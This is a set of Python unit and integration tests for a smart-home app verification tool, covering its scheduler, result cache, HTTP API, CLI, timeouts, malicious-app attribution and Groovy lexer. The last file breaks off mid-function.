        assert twin is sweep and sweep.priority == 9
        # the boosted twin now outranks the priority-3 job
        first_cycle = scheduler.run_pending()
        assert [r.id for r in first_cycle] == [sweep.id]
        assert [r.id for r in scheduler.run_pending()] == [other.id]

    def test_batch_size_caps_one_drain_cycle(self, alice_config):
        scheduler = Scheduler(ResultStore(":memory:"), workers=1,
                              batch_size=1)
        first = scheduler.submit(_alice_job(alice_config, max_events=1))
        second = scheduler.submit(_alice_job(alice_config, max_events=2))
        assert len(scheduler.run_pending()) == 1
        assert second.status == "queued"
        assert len(scheduler.run_pending()) == 1
        assert first.done and second.done

    def test_store_write_failure_keeps_verdict_and_unwedges(
            self, alice_config, monkeypatch):
        store = ResultStore(":memory:")
        scheduler = Scheduler(store, workers=1)
        monkeypatch.setattr(store, "put", _raise_io_error)
        record = scheduler.submit(_alice_job(alice_config))
        scheduler.run_pending()
        # the verdict survives; the store trouble is surfaced, the cache
        # key is no longer in-flight, and nothing was persisted
        assert record.status == "done"
        assert record.result.verdict == "violated"
        assert "result-store write failed" in record.error
        assert len(store) == 0
        retry = scheduler.submit(_alice_job(alice_config, name="retry"))
        assert retry is not record and retry.status == "queued"

    def test_batch_execution_failure_errors_records(self, alice_config,
                                                    monkeypatch):
        import repro.engine.batch as batch_module

        scheduler = Scheduler(ResultStore(":memory:"), workers=1)
        record = scheduler.submit(_alice_job(alice_config))
        monkeypatch.setattr(batch_module, "verify_many", _raise_io_error)
        scheduler.run_pending()
        assert record.status == "error"
        assert "batch execution failed" in record.error
        # the key left the in-flight table: a resubmission can run
        assert scheduler.submit(
            _alice_job(alice_config, name="retry")).status == "queued"

    def test_background_worker_drains(self, alice_config):
        scheduler = Scheduler(ResultStore(":memory:"), workers=1)
        scheduler.start()
        try:
            record = scheduler.submit(_alice_job(alice_config, max_events=1))
            assert scheduler.wait(record, timeout=60)
            assert record.status == "done"
        finally:
            scheduler.stop(timeout=10)

    def test_shard_workers_mode_runs_jobs_sharded(self, alice_config):
        """`repro serve --shard-workers N`: jobs drain one at a time
        through the sharded engine; verdicts and stored results match a
        plain run, and the shard accounting lands in the store."""
        store = ResultStore(":memory:")
        plain = Scheduler(ResultStore(":memory:"), workers=1)
        plain_record = plain.submit(_alice_job(alice_config))
        plain.run_pending()
        scheduler = Scheduler(store, shard_workers=2)
        assert scheduler.batch_size == 1  # shards already fill the cores
        record = scheduler.submit(_alice_job(alice_config))
        scheduler.run_pending()
        assert record.status == "done", record.error
        assert record.result.workers == 2
        assert len(record.result.shard_stats) == 2
        assert record.verdict == plain_record.verdict
        assert (record.result.violated_property_ids
                == plain_record.result.violated_property_ids)
        # sharding is a perf knob: both runs share one cache key, and
        # the stored JSON round-trips the shard stats
        assert record.cache_key == plain_record.cache_key
        stored = store.get(record.cache_key)
        assert stored.result.workers == 2
        assert len(stored.result.shard_stats) == 2

    def test_submission_workers_option_shards_one_job(self, alice_config):
        """A submission's own ``options.workers`` shards regardless of
        the scheduler default."""
        _scheduler, record = _run_one(
            ResultStore(":memory:"), _alice_job(alice_config, workers=2))
        assert record.result.workers == 2

    def test_sharded_jobs_never_multiply_with_the_pool(self, alice_config,
                                                       monkeypatch):
        """A drain cycle containing any job that requests its own shard
        workers must run on a single-worker pool: pool x shards process
        amplification from plain API traffic is how a host dies."""
        import repro.engine.batch as batch_module

        seen = {}
        real_verify_many = batch_module.verify_many

        def spying_verify_many(jobs, workers=None, timeout=None):
            seen["workers"] = workers
            return real_verify_many(jobs, workers=workers, timeout=timeout)

        monkeypatch.setattr(batch_module, "verify_many", spying_verify_many)
        scheduler = Scheduler(ResultStore(":memory:"), workers=4)
        scheduler.submit(_alice_job(alice_config, max_events=1, workers=2))
        # distinct cache key (max_events differs): a real mixed batch
        scheduler.submit(_alice_job(alice_config, name="alice2",
                                    max_events=2))
        scheduler.run_pending()
        assert seen["workers"] == 1

    def test_truncated_sharded_result_is_not_cached(self, alice_config):
        """A limit-truncated sharded run stops at a scheduling-dependent
        point, so its partial result must not be stored under the
        worker-agnostic cache key."""
        store = ResultStore(":memory:")
        scheduler = Scheduler(store, shard_workers=2)
        record = scheduler.submit(_alice_job(alice_config, max_states=5))
        scheduler.run_pending()
        assert record.status == "done", record.error
        assert record.result.truncated
        assert store.get(record.cache_key) is None

    def test_source_overlay_jobs_run_and_persist_sources(self, registry,
                                                         alice_config):
        patched = registry["Unlock Door"].source.replace(
            "lock1.unlock()", 'log.debug "patched"\n    lock1.unlock()')
        store = ResultStore(":memory:")
        job = VerificationJob("overlay", alice_config,
                              EngineOptions(max_events=2), strict=False,
                              sources={"Unlock Door": patched})
        _scheduler, record = _run_one(store, job)
        assert record.result.verdict == "violated"
        stored = store.get(record.cache_key)
        # the overlay is stored so traces re-render against the same
        # registry the job actually ran with
        assert stored.sources == {"Unlock Door": patched}
        assert stored.to_dict()["sources"] == {"Unlock Door": patched}


# ---------------------------------------------------------------------------
# acceptance: cached results replay byte-identically across visited stores
# ---------------------------------------------------------------------------


class TestCachedResultsMatchFreshRuns:
    @pytest.mark.parametrize("visited", ["exact", "fingerprint", "collapse"])
    def test_cached_equals_fresh_check(self, generator, alice_config,
                                       visited):
        options = EngineOptions(max_events=2, visited=visited)
        store = ResultStore(":memory:")
        scheduler = Scheduler(store, workers=1)
        scheduler.submit(VerificationJob("first", alice_config, options,
                                         strict=False))
        scheduler.run_pending()
        assert scheduler.executed == 1

        # second submission: answered by the ResultStore, no exploration
        cached = scheduler.submit(VerificationJob("second", alice_config,
                                                  options, strict=False))
        assert cached.from_cache
        assert scheduler.executed == 1
        assert scheduler.stats()["queued"] == 0

        # a fresh `repro check` of the same configuration
        system = generator.build(alice_config, strict=False)
        properties = select_relevant(system, build_properties())
        fresh = ExplorationEngine(system, properties, options).run()

        cached_dict = cached.result.to_dict()
        fresh_dict = fresh.to_dict()
        assert cached_dict.pop("elapsed") > 0
        fresh_dict.pop("elapsed")
        # the phase breakdown is wall-clock like elapsed: present in
        # both, but never byte-comparable across runs
        assert cached_dict.pop("profile").keys() == \
            fresh_dict.pop("profile").keys()
        assert cached_dict == fresh_dict

        cached_logs = sorted(
            render_violation_log(system, ce)
            for ce in cached.result.counterexamples.values())
        fresh_logs = sorted(render_violation_log(system, ce)
                            for ce in fresh.counterexamples.values())
        assert cached_logs == fresh_logs and cached_logs


# ---------------------------------------------------------------------------
# HTTP API
# ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def service_client():
    server, service = create_server(port=0, workers=1)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    host, port = server.server_address[:2]
    client = ServiceClient("http://%s:%d" % (host, port))
    try:
        yield client
    finally:
        server.shutdown()
        server.server_close()
        service.shutdown()


class TestHTTPAPI:
    GROUP = "group1-entry-and-mode"

    def test_healthz(self, service_client):
        answer = service_client.health()
        assert answer["status"] == "ok"
        assert answer["store_schema"] == STORE_SCHEMA_VERSION

    def test_submit_then_cached_resubmit(self, service_client):
        payload = {"group": self.GROUP, "wait": 120,
                   "options": {"max_events": 2}}
        first = service_client.submit(payload)
        assert first["status"] == "done"
        assert first["verdict"] in ("safe", "violated")
        assert not first["from_cache"]
        second = service_client.submit(payload)
        assert second["from_cache"]
        assert second["verdict"] == first["verdict"]
        assert second["cache_key"] == first["cache_key"]

        stored = service_client.result(first["cache_key"])
        assert stored["verdict"] == first["verdict"]
        assert stored["result"]["schema"] == 1
        assert stored["config"]["devices"]

        snapshot = service_client.job(first["id"])
        assert snapshot["status"] == "done"
        assert any(entry["cache_key"] == first["cache_key"]
                   for entry in service_client.results())
        assert any(job["id"] == first["id"]
                   for job in service_client.jobs())

    def test_submit_config_dict(self, service_client, alice_config):
        answer = service_client.submit({"config": alice_config.to_dict(),
                                        "wait": 120,
                                        "options": {"max_events": 1}})
        assert answer["status"] == "done"

    def test_stats_shape(self, service_client):
        stats = service_client.stats()
        assert "scheduler" in stats and "store" in stats
        assert stats["store"]["schema_version"] == STORE_SCHEMA_VERSION

    def test_bad_submissions_are_400(self, service_client):
        for payload in (
                {},  # neither config nor group
                {"group": "no-such-group"},
                {"group": self.GROUP, "options": {"bogus_option": 1}},
                {"group": self.GROUP, "options": {"visited": 3}},
                # one submission must never fork the host to death
                {"group": self.GROUP, "options": {"workers": 4096}},
                {"group": self.GROUP, "options": {"workers": 0}},
                {"group": self.GROUP, "options": {"workers": "two"}},
                {"group": self.GROUP, "properties": "P06"},
                {"group": self.GROUP, "sources": ["not-a-dict"]},
        ):
            with pytest.raises(ServiceError) as excinfo:
                service_client.submit(payload)
            assert excinfo.value.status == 400

    def test_unknown_routes_are_404(self, service_client):
        for path in ("/jobs/job-9999", "/results/%s" % ("f" * 64),
                     "/nope"):
            with pytest.raises(ServiceError) as excinfo:
                service_client._request(path)
            assert excinfo.value.status == 404

    def test_gc_endpoint(self, service_client):
        service_client.submit({"group": self.GROUP, "wait": 120,
                               "options": {"max_events": 1}})
        answer = service_client.gc(keep=0)
        assert answer["removed"] >= 1
        assert answer["store"]["entries"] == 0


# ---------------------------------------------------------------------------
# CLI verbs
# ---------------------------------------------------------------------------


@pytest.fixture()
def live_service(tmp_path):
    store = ResultStore(str(tmp_path / "results.sqlite"))
    server, service = create_server(store=store, port=0, workers=1)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    host, port = server.server_address[:2]
    try:
        yield "http://%s:%d" % (host, port), store
    finally:
        server.shutdown()
        server.server_close()
        service.shutdown()
        store.close()


class TestCLIVerbs:
    def test_submit_results_gc_round_trip(self, live_service, tmp_path,
                                          capsys):
        url, _store = live_service
        config_path = tmp_path / "alice.json"
        config = SystemConfiguration(contacts=["+1-555-0100"])
        config.add_device("alicePresence", "smartsense-presence")
        config.add_device("doorLock", "zwave-lock")
        config.association["main_door_lock"] = "doorLock"
        config.add_app("Auto Mode Change", {"people": ["alicePresence"],
                                            "awayMode": "Away",
                                            "homeMode": "Home"})
        config.add_app("Unlock Door", {"lock1": "doorLock"})
        config_path.write_text(config.to_json())

        code = cli_main(["submit", str(config_path), "--url", url,
                         "--wait", "120", "--max-events", "2"])
        out = capsys.readouterr().out
        assert code == 1  # violations found
        assert "verdict: violated" in out
        cache_key = [line for line in out.splitlines()
                     if line.startswith("cache key: ")][0].split(": ")[1]

        # resubmission answers from the cache
        code = cli_main(["submit", str(config_path), "--url", url,
                         "--wait", "120", "--max-events", "2"])
        out = capsys.readouterr().out
        assert code == 1 and "[cached]" in out

        code = cli_main(["results", "--url", url])
        out = capsys.readouterr().out
        assert code == 0 and cache_key[:16] in out

        code = cli_main(["results", cache_key, "--url", url, "--trace"])
        out = capsys.readouterr().out
        assert code == 1
        assert "violation(s)" in out
        assert "assertion violated" in out  # the Fig-7 style log

        code = cli_main(["gc", "--url", url, "--keep", "0"])
        out = capsys.readouterr().out
        assert code == 0 and "removed 1 entry" in out

    def test_submit_with_app_file(self, live_service, registry, alice_config,
                                  tmp_path, capsys):
        url, _store = live_service
        patched = registry["Unlock Door"].source.replace(
            "lock1.unlock()", 'log.debug "patched"\n    lock1.unlock()')
        app_path = tmp_path / "unlock-patched.groovy"
        app_path.write_text(patched)
        config_path = tmp_path / "config.json"
        config_path.write_text(alice_config.to_json())
        code = cli_main(["submit", str(config_path), "--url", url,
                         "--app", str(app_path), "--wait", "120",
                         "--max-events", "2"])
        out = capsys.readouterr().out
        assert code == 1 and "verdict: violated" in out
        cache_key = [line for line in out.splitlines()
                     if line.startswith("cache key: ")][0].split(": ")[1]
        # the stored trace renders against the overlaid registry
        code = cli_main(["results", cache_key, "--url", url, "--trace"])
        out = capsys.readouterr().out
        assert code == 1 and "assertion violated" in out

    def test_gc_directly_on_store_file(self, tmp_path, alice_config, capsys):
        path = str(tmp_path / "results.sqlite")
        with ResultStore(path) as store:
            _run_one(store, _alice_job(alice_config))
        code = cli_main(["gc", "--store", path, "--keep", "0"])
        out = capsys.readouterr().out
        assert code == 0 and "removed 1 entry" in out


class TestBatchJson:
    def test_batch_json_output_and_exit_code(self, capsys):
        code = cli_main(["batch", "group1-entry-and-mode", "--json",
                         "--max-events", "2", "--workers", "1"])
        payload = json.loads(capsys.readouterr().out)
        assert payload["schema"] == 1
        assert "group1-entry-and-mode" in payload["results"]
        if payload["verdict"] == "violated":
            assert code == 1
            assert payload["violated_property_ids"]
        else:
            assert code == 0

    def test_batch_json_round_trips(self, capsys):
        from repro.engine.result import BatchResult

        cli_main(["batch", "group1-entry-and-mode", "--json",
                  "--max-events", "1", "--workers", "1"])
        payload = capsys.readouterr().out
        restored = BatchResult.from_json(payload)
        assert restored.to_json(indent=2) == payload.rstrip("\n")


# ---------------------------------------------------------------------------
# crash tolerance: job timeouts and client retry
# ---------------------------------------------------------------------------


def _safe_slow_job(name="slow-safe", max_events=4):
    """A violation-free workload big enough to outlive a tiny deadline:
    a timed-out run of it has no counterexamples, so a partial 'safe'
    would be unsound and the record must error instead."""
    config = SystemConfiguration()
    for index in range(3):
        config.add_device("motion%d" % index, "smartsense-motion")
        config.add_device("switch%d" % index, "smart-outlet")
        config.add_app("Brighten My Path", {"motion1": "motion%d" % index,
                                            "switch1": "switch%d" % index})
    return VerificationJob(name, config, EngineOptions(max_events=max_events),
                           strict=False)


def _hang_named_job_forever(job):
    """Pool-side stand-in for ``_execute_named``: the job named "hung"
    sleeps forever, everything else runs normally."""
    import time as _time

    from repro.engine.batch import execute_job

    if job.name == "hung":
        _time.sleep(3600)
    return job.name, execute_job(job)


class TestSchedulerJobTimeout:
    def test_timed_out_job_errors_and_unwedges_the_dedup_key(self):
        scheduler = Scheduler(ResultStore(":memory:"), workers=1,
                              job_timeout=0.05)
        record = scheduler.submit(_safe_slow_job())
        scheduler.run_pending()
        assert record.status == "error"
        assert "timed out" in record.error
        # the in-flight dedup key is released: a resubmission queues a
        # fresh run instead of attaching to the dead record
        assert not scheduler._inflight
        fresh = scheduler.submit(_safe_slow_job(name="retry"))
        assert fresh is not record
        assert scheduler.stats()["job_timeout"] == 0.05

    def test_nothing_is_cached_under_an_injected_deadline_cut(self):
        store = ResultStore(":memory:")
        scheduler = Scheduler(store, workers=1, job_timeout=0.05)
        scheduler.submit(_safe_slow_job())
        scheduler.run_pending()
        # partial coverage must never be served to future submissions
        assert len(store) == 0

    def test_violations_found_before_the_deadline_stand(self, alice_config):
        """Violations are real whatever coverage found them: a deadline
        cut with counterexamples keeps its violated verdict (uncached)."""
        store = ResultStore(":memory:")
        scheduler = Scheduler(store, workers=1, job_timeout=0.01)
        record = scheduler.submit(_alice_job(alice_config, max_events=5,
                                             stop_on_first=False))
        scheduler.run_pending()
        if record.result is not None and record.result.counterexamples:
            assert record.status == "done"
            assert record.verdict == "violated"
            assert len(store) == 0  # partial coverage is never cached
        else:  # the cut landed before the first violation on this host
            assert record.status == "error"

    def test_fast_jobs_are_untouched_by_a_generous_timeout(
            self, alice_config):
        store = ResultStore(":memory:")
        untimed = Scheduler(ResultStore(":memory:"), workers=1)
        baseline = untimed.submit(_alice_job(alice_config))
        untimed.run_pending()
        timed = Scheduler(store, workers=1, job_timeout=600.0)
        record = timed.submit(_alice_job(alice_config))
        timed.run_pending()
        assert record.status == "done", record.error
        # timings differ run to run; the semantics must not
        assert record.result.verdict == baseline.result.verdict
        assert (record.result.states_explored
                == baseline.result.states_explored)
        assert (sorted(record.result.counterexamples)
                == sorted(baseline.result.counterexamples))
        assert len(store) == 1  # complete runs still cache

    def test_submissions_own_tighter_limit_wins(self, alice_config):
        """A job that already carries time_limit=0.01 truncates under its
        *own* limit; the scheduler must not reclassify that as a timeout
        error (it did not tighten anything)."""
        scheduler = Scheduler(ResultStore(":memory:"), workers=1,
                              job_timeout=600.0)
        record = scheduler.submit(_alice_job(alice_config, max_events=5,
                                             stop_on_first=False,
                                             time_limit=0.01))
        scheduler.run_pending()
        assert record.status == "done", record.error
        assert record.result.truncated_reason == "time_limit"

    def test_pooled_hard_backstop_kills_a_hung_worker(self, alice_config,
                                                      monkeypatch):
        """A worker hung in non-cooperative code (the engine's time_limit
        never fires) is abandoned at the deadline: its job errors, other
        jobs' results survive, and the caller returns promptly."""
        import time as _time

        import repro.engine.batch as batch_mod

        # module-level stand-in (closures don't pickle into the pool)
        monkeypatch.setattr(batch_mod, "_execute_named",
                            _hang_named_job_forever)
        from repro.engine.batch import verify_many

        jobs = [_alice_job(alice_config, name="ok", max_events=1),
                _alice_job(alice_config, name="hung", max_events=1)]
        started = _time.monotonic()
        outcome = verify_many(jobs, workers=2, timeout=2.0)
        assert _time.monotonic() - started < 30
        assert "ok" in outcome.results
        assert "timed out" in outcome.errors["hung"]


class TestClientRetry:
    def test_gets_retry_with_backoff_then_surface_the_error(self,
                                                            monkeypatch):
        sleeps = []
        import repro.service.api as api_mod
        monkeypatch.setattr(api_mod.time, "sleep", sleeps.append)
        client = ServiceClient("http://127.0.0.1:1", timeout=1.0,
                               retries=2, backoff=0.25)
        with pytest.raises(ServiceError) as excinfo:
            client.health()
        assert excinfo.value.status == 0
        assert "after 3 attempts" in str(excinfo.value)
        assert len(sleeps) == 2
        # exponential with jitter in [0.5, 1.0] of the nominal delay
        assert 0.125 <= sleeps[0] <= 0.25
        assert 0.25 <= sleeps[1] <= 0.5

    def test_posts_do_not_retry_by_default(self, monkeypatch):
        sleeps = []
        import repro.service.api as api_mod
        monkeypatch.setattr(api_mod.time, "sleep", sleeps.append)
        client = ServiceClient("http://127.0.0.1:1", timeout=1.0,
                               retries=5, backoff=10.0)
        with pytest.raises(ServiceError):
            client.submit({"group": "g"})
        assert sleeps == []  # one attempt, no backoff

    def test_http_error_answers_never_retry(self, service_client):
        """A served 4xx is a definitive answer: retrying it would just
        re-ask a question the server already answered."""
        client = ServiceClient(service_client.base_url, retries=3,
                               backoff=30.0)  # a retry would hang the test
        with pytest.raises(ServiceError) as excinfo:
            client._request("/jobs/job-does-not-exist")
        assert excinfo.value.status == 404

    def test_retry_recovers_once_the_server_is_up(self):
        """The whole point: a client started moments before the server
        finishes binding succeeds transparently."""
        server, service = create_server(port=0, workers=1)
        host, port = server.server_address[:2]
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        try:
            client = ServiceClient("http://%s:%d" % (host, port),
                                   retries=3, backoff=0.05)
            # serve_forever starts *after* a short delay on purpose
            starter = threading.Timer(0.1, thread.start)
            starter.start()
            # the socket is already bound by create_server, so requests
            # queue in the listen backlog until serve_forever drains it;
            # the retry path is exercised against the dead-port case above
            assert client.health()["status"] == "ok"
        finally:
            server.shutdown()
            server.server_close()
            service.shutdown()
