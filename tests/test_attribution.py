"""Unit tests for the Output Analyzer (§9) and volunteer profiles (§10.1)."""

import pytest

from repro.attribution import (
    VERDICT_BAD_APP,
    VERDICT_MALICIOUS,
    VERDICT_MISCONFIGURED,
    VERDICT_SAFE,
    ConfigurationEnumerator,
    OutputAnalyzer,
)
from repro.attribution.analyzer import PhaseResult
from repro.attribution.volunteers import (
    VOLUNTEER_PROFILES,
    all_volunteer_configurations,
    full_house,
    volunteer_configuration,
    volunteer_profile_names,
)
from repro.config.schema import SystemConfiguration


@pytest.fixture()
def small_home():
    config = SystemConfiguration(contacts=["+1-555-0100"])
    config.add_device("p1", "smartsense-presence")
    config.add_device("lock", "zwave-lock")
    config.add_device("outlet", "smart-outlet")
    config.add_device("motion", "smartsense-motion")
    config.association.update({"main_door_lock": "lock"})
    return config


class TestEnumerator:
    def test_device_input_candidates(self, registry, small_home):
        enumerator = ConfigurationEnumerator(small_home)
        app = registry["Unlock Door"]
        declaration = app.input("lock1")
        assert enumerator.candidates(declaration) == ["lock"]

    def test_multi_device_candidates_include_all(self, registry):
        config = SystemConfiguration()
        config.add_device("o1", "smart-outlet")
        config.add_device("o2", "smart-outlet")
        enumerator = ConfigurationEnumerator(config)
        app = registry["Big Turn On"]
        declaration = app.input("switches")
        candidates = enumerator.candidates(declaration)
        assert ["o1"] in candidates
        assert ["o2"] in candidates
        assert ["o1", "o2"] in candidates

    def test_optional_input_gets_unbound_choice(self, registry, small_home):
        enumerator = ConfigurationEnumerator(small_home)
        app = registry["Virtual Thermostat"]
        declaration = app.input("motion")  # optional
        assert None in enumerator.candidates(declaration)

    def test_enum_candidates_are_options(self, registry, small_home):
        enumerator = ConfigurationEnumerator(small_home)
        app = registry["Virtual Thermostat"]
        declaration = app.input("mode")
        candidates = enumerator.candidates(declaration)
        assert set(candidates) == {"heat", "cool"}

    def test_enumeration_capped(self, registry):
        config = SystemConfiguration()
        for index in range(6):
            config.add_device("o%d" % index, "smart-outlet")
        config.add_device("t", "temperature-sensor")
        config.add_device("m", "smartsense-motion")
        enumerator = ConfigurationEnumerator(config, limit=10)
        bindings = list(enumerator.enumerate_bindings(
            registry["Virtual Thermostat"]))
        assert len(bindings) == 10

    def test_count_matches_enumeration(self, registry, small_home):
        enumerator = ConfigurationEnumerator(small_home, limit=100)
        app = registry["Unlock Door"]
        bindings = list(enumerator.enumerate_bindings(app))
        assert enumerator.count(app) == len(bindings)

    def test_bindings_omit_unbound(self, registry, small_home):
        enumerator = ConfigurationEnumerator(small_home)
        for bindings in enumerator.enumerate_bindings(registry["Unlock Door"]):
            assert None not in bindings.values()


class TestPhaseResult:
    def test_ratio_empty_is_zero(self):
        assert PhaseResult(1).ratio == 0.0

    def test_ratio_counts_violating_configs(self):
        phase = PhaseResult(1)
        phase.record({"a": 1}, [])
        phase.record({"a": 2}, ["violation"])
        assert phase.ratio == 0.5
        assert phase.safe_bindings() == [{"a": 1}]


class TestVerdicts:
    def test_malicious_app_flagged(self, registry, small_home):
        analyzer = OutputAnalyzer(registry, max_configs=8)
        report = analyzer.attribute("Night Lock Opener", small_home)
        assert report.verdict == VERDICT_MALICIOUS
        assert report.phase1.ratio > 0.9
        assert report.is_flagged

    def test_safe_app_passes(self, registry, small_home):
        analyzer = OutputAnalyzer(registry, max_configs=8)
        report = analyzer.attribute("Brighten My Path", small_home)
        assert report.verdict == VERDICT_SAFE
        assert not report.is_flagged

    def test_summary_text(self, registry, small_home):
        analyzer = OutputAnalyzer(registry, max_configs=4)
        report = analyzer.attribute("Brighten My Path", small_home)
        summary = report.summary()
        assert "phase 1" in summary
        assert "Brighten My Path" in summary

    def test_unknown_app_raises(self, registry, small_home):
        analyzer = OutputAnalyzer(registry)
        with pytest.raises(KeyError):
            analyzer.attribute("No Such App", small_home)

    def test_misconfiguration_offers_suggestions(self, registry):
        """Virtual Thermostat with both outlets deployable: some configs
        violate (both outlets chosen), some are safe -> misconfiguration."""
        config = SystemConfiguration(contacts=["+1-555-0100"])
        config.add_device("t", "temperature-sensor")
        config.add_device("heaterOutlet", "smart-outlet")
        config.add_device("acOutlet", "smart-outlet")
        config.add_device("m", "smartsense-motion")
        config.association.update({"temp_sensor": "t",
                                   "heater_outlet": "heaterOutlet",
                                   "ac_outlet": "acOutlet"})
        analyzer = OutputAnalyzer(registry, max_configs=48)
        report = analyzer.attribute("Virtual Thermostat", config)
        assert report.verdict in (VERDICT_MISCONFIGURED, VERDICT_SAFE)
        if report.verdict == VERDICT_MISCONFIGURED:
            assert report.suggestions()


class TestVolunteers:
    def test_seven_profiles(self):
        assert len(VOLUNTEER_PROFILES) == 7
        assert volunteer_profile_names() == sorted(VOLUNTEER_PROFILES)

    def test_full_house_is_valid(self):
        house = full_house()
        assert house.validate() == []
        assert len(house.devices) >= 25

    def test_maximalist_selects_everything(self, registry):
        config = volunteer_configuration("vgroup02",
                                         "volunteer1-maximalist", registry)
        thermostat = next(a for a in config.apps
                          if a.app == "Virtual Thermostat")
        # the documented §2.2 error: both heater and AC outlets selected
        outlets = thermostat.bindings["outlets"]
        assert "myHeaterOutlet" in outlets
        assert "myACOutlet" in outlets

    def test_profiles_are_deterministic(self, registry):
        first = volunteer_configuration("vgroup01",
                                        "volunteer3-last-match", registry)
        second = volunteer_configuration("vgroup01",
                                         "volunteer3-last-match", registry)
        assert first.to_dict() == second.to_dict()

    def test_profiles_differ(self, registry):
        maximalist = volunteer_configuration(
            "vgroup02", "volunteer1-maximalist", registry)
        minimalist = volunteer_configuration(
            "vgroup02", "volunteer2-first-match", registry)
        assert maximalist.to_dict() != minimalist.to_dict()

    def test_all_70_configurations(self, registry):
        configurations = all_volunteer_configurations(registry)
        assert len(configurations) == 70

    def test_unknown_group_raises(self, registry):
        with pytest.raises(KeyError):
            volunteer_configuration("vgroup99", "volunteer1-maximalist",
                                    registry)

    def test_unknown_profile_raises(self, registry):
        with pytest.raises(KeyError):
            volunteer_configuration("vgroup01", "nobody", registry)

    def test_every_configuration_buildable(self, registry, generator):
        for profile in volunteer_profile_names():
            config = volunteer_configuration("vgroup01", profile, registry)
            system = generator.build(config, strict=False)
            assert system.apps
