"""Unit tests for the Groovy lexer."""

import pytest

from repro.groovy.errors import LexError
from repro.groovy.lexer import Interp, TokenType, tokenize


def types_of(source):
    return [t.type for t in tokenize(source) if t.type not in
            (TokenType.NEWLINE, TokenType.EOF)]


def values_of(source):
    return [t.value for t in tokenize(source) if t.type not in
            (TokenType.NEWLINE, TokenType.EOF)]


class TestBasics:
    def test_empty_source_yields_eof(self):
        tokens = tokenize("")
        assert tokens[-1].type == TokenType.EOF

    def test_identifier(self):
        assert types_of("foo") == [TokenType.IDENT]

    def test_keyword(self):
        tokens = tokenize("def if else")
        assert all(t.type == TokenType.KEYWORD for t in tokens[:3])

    def test_identifier_with_digits_and_underscore(self):
        assert values_of("foo_bar9") == ["foo_bar9"]

    def test_integer_number(self):
        token = tokenize("42")[0]
        assert token.type == TokenType.NUMBER
        assert token.value == 42

    def test_decimal_number(self):
        token = tokenize("3.25")[0]
        assert token.type == TokenType.NUMBER
        assert token.value == pytest.approx(3.25)

    def test_number_not_range(self):
        # "1..3" is a range, not the decimal 1. followed by .3
        values = values_of("1..3")
        assert values == [1, "..", 3]

    def test_line_and_column_positions(self):
        tokens = tokenize("a\n  b")
        a = tokens[0]
        b = next(t for t in tokens if t.value == "b")
        assert (a.line, a.col) == (1, 1)
        assert (b.line, b.col) == (2, 3)


class TestStrings:
    def test_single_quoted_string(self):
        token = tokenize("'hello'")[0]
        assert token.type == TokenType.STRING
        assert token.value == "hello"

    def test_single_quoted_escapes(self):
        assert tokenize(r"'a\'b\n'")[0].value == "a'b\n"

    def test_double_quoted_plain_normalizes_to_string(self):
        # a double-quoted string without interpolation is a plain STRING
        token = tokenize('"hello"')[0]
        assert token.type == TokenType.STRING
        assert token.value == "hello"

    def test_gstring_interpolation_braced(self):
        token = tokenize('"a ${x + 1} b"')[0]
        assert token.type == TokenType.GSTRING
        assert token.value[0] == "a "
        assert isinstance(token.value[1], Interp)
        assert token.value[1].source.strip() == "x + 1"
        assert token.value[2] == " b"

    def test_gstring_interpolation_bare(self):
        token = tokenize('"count: $count"')[0]
        parts = token.value
        assert any(isinstance(p, Interp) and "count" in p.source
                   for p in parts)

    def test_gstring_bare_property_path(self):
        token = tokenize('"val: $evt.value"')[0]
        interp = next(p for p in token.value if isinstance(p, Interp))
        assert interp.source == "evt.value"

    def test_unterminated_string_raises(self):
        with pytest.raises(LexError):
            tokenize("'oops")

    def test_triple_quoted_string(self):
        token = tokenize("'''multi\nline'''")[0]
        assert token.value == "multi\nline"


class TestOperatorsAndComments:
    def test_two_char_operators(self):
        assert values_of("a == b != c") == ["a", "==", "b", "!=", "c"]

    def test_elvis_operator(self):
        assert "?:" in values_of("a ?: b")

    def test_safe_navigation(self):
        assert "?." in values_of("a?.b")

    def test_spread_operator(self):
        assert "*." in values_of("list*.name")

    def test_spaceship(self):
        assert "<=>" in values_of("a <=> b")

    def test_line_comment_skipped(self):
        assert values_of("a // comment\nb") == ["a", "b"]

    def test_block_comment_skipped(self):
        assert values_of("a /* x\ny */ b") == ["a", "b"]

    def test_newline_token_emitted(self):
        tokens = tokenize("a\nb")
        assert any(t.type == TokenType.NEWLINE for t in tokens)

    def test_semicolons_tokenized(self):
        assert ";" in values_of("a; b")


class TestRealAppSnippets:
    def test_preferences_block(self):
        source = '''
preferences {
    section("Choose") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
}
'''
        values = values_of(source)
        assert "preferences" in values
        assert "input" in values
        assert "sensor" in values

    def test_subscription_line(self):
        values = values_of('subscribe(contact1, "contact.open", handler)')
        assert values[0] == "subscribe"
        assert "contact.open" in values
