"""Corpus sanity: every bundled app parses, analyzes, and binds."""

import pytest

from repro.corpus import load_all_apps, load_malicious_apps, load_market_apps
from repro.corpus.groups import (
    EXPERT_GROUPS,
    GROUP_BUILDERS,
    VOLUNTEER_GROUPS,
    expert_configuration,
)


class TestCorpusShape:
    def test_market_corpus_size(self, market_apps):
        # one representative implementation per distinct behaviour for the
        # paper's 150-app study (§10.1)
        assert len(market_apps) >= 50

    def test_nine_malicious_apps(self, malicious_apps):
        assert len(malicious_apps) == 9

    def test_no_name_collisions(self, market_apps, malicious_apps):
        assert not set(market_apps) & set(malicious_apps)

    def test_paper_named_apps_present(self, market_apps):
        for name in ["Virtual Thermostat", "Brighten Dark Places",
                     "Let There Be Dark!", "Auto Mode Change", "Unlock Door",
                     "Big Turn On", "Good Night", "Light Follows Me",
                     "Light Off When Close", "Energy Saver", "Make It So",
                     "Darken Behind Me", "Automated Light",
                     "Brighten My Path", "It's Too Cold"]:
            assert name in market_apps, name


class TestEveryApp:
    def test_every_app_has_definition(self, registry):
        for name, app in registry.items():
            assert app.name == name
            assert app.description

    def test_every_app_has_subscription_or_schedule(self, registry):
        for name, app in registry.items():
            assert app.subscriptions or app.schedules, name

    def test_every_subscription_handler_defined(self, registry):
        for name, app in registry.items():
            methods = {m.name for m in app.program.methods}
            for sub in app.subscriptions:
                assert sub.handler in methods, (name, sub.handler)

    def test_every_device_input_has_known_capability(self, registry):
        from repro.devices.capabilities import capability

        for name, app in registry.items():
